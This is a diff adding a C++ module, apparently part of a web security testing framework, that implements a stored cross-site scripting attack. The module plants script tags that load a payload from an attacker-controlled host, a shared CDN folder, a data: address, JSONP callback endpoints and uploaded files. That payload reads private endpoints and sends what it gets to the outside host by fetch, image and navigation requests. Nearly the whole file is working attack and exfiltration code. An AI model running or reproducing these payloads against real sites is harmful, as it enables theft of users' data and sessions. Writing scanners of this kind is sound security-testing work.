@@ -1,0 +1,74 @@
+// xss-remote-script: an injected script that is not in the page but loaded: from the attacker's
+// host, from his folder on a CDN that a policy may trust as a whole, from a data: address, and from
+// the app itself where an answer can be made to be script: a JSONP callback, an upload
+// (https://csp-evaluator.withgoogle.com knows the same bypasses).
+#include "core/attack/every_agent.h"
+#include "core/attack/page_script.h"
+#include "core/attack/request_writer.h"
+#include "core/attack/session.h"
+#include "core/attack/stored_text.h"
+#include "core/attack/upload.h"
+#include "core/http/percent.h"
+
+namespace parapet::attack {
+namespace {
+
+class XssRemoteScript final : public Agent {
+    void run(Target& target) override {
+        OwnHost* evil = foreign_host(target);
+        if (evil == nullptr || target.victim() == nullptr) return;
+        evil->answer(evil->folder() + "c", {.status = 204});
+        StoredText text(target);
+        for (std::string const& address : addresses(target, *evil))
+            text.leave("<script src=" + in_quotes(address) + "></script>");
+        victim_reads_and_loot_is_used(target);
+    }
+
+    static std::string script_for(Target& target, OwnHost const& evil) {
+        std::string const address = address_on(evil, "c");
+        std::string script = send_script(Channel::Fetch, address, kAllInReach) +
+                             send_script(Channel::Image, address, kAllInReach) +
+                             send_script(Channel::Navigation, address, kAllInReach);
+        for (Endpoint const* each : private_endpoints(target))
+            script = fetch_and_send(each->path, address) + script;
+        return script;
+    }
+
+    static std::vector<std::string> addresses(Target& target, OwnHost& evil) {
+        std::string const script = script_for(target, evil);
+        http::Response const file{
+            .status = 200,
+            .headers = {{"content-type", "text/javascript"}, {"access-control-allow-origin", "*"}},
+            .body = script};
+        evil.answer(evil.folder() + "x.js", file);
+        std::vector<std::string> all{address_on(evil, "x.js"),
+                                     "data:text/javascript," + http::percent_encode(script)};
+        if (OwnHost* shared = shared_host(target)) {
+            shared->answer(shared->folder() + "x.js", file);
+            all.push_back(address_on(*shared, "x.js"));
+        }
+        for (Endpoint const& each : target.surface().endpoints)
+            if (std::string const address = callback_of(each, script); !address.empty())
+                all.push_back(address);
+        for (std::string const& path : upload(target, script)) all.push_back(path);
+        return all;
+    }
+
+    // "?callback=SCRIPT//" of an endpoint that wraps its answer in a call.
+    static std::string callback_of(Endpoint const& endpoint, std::string const& script) {
+        std::vector<std::string> values = samples(endpoint);
+        for (std::size_t i = 0; i < values.size(); ++i) {
+            std::string const& name = endpoint.parameters[i].name;
+            if (name != "callback" && name != "jsonp" && name != "cb") continue;
+            values[i] = script + "//";
+            return write_request(endpoint, values).target;
+        }
+        return {};
+    }
+};
+
+}  // namespace
+
+std::unique_ptr<Agent> make_xss_remote_script() { return std::make_unique<XssRemoteScript>(); }
+
+}  // namespace parapet::attack
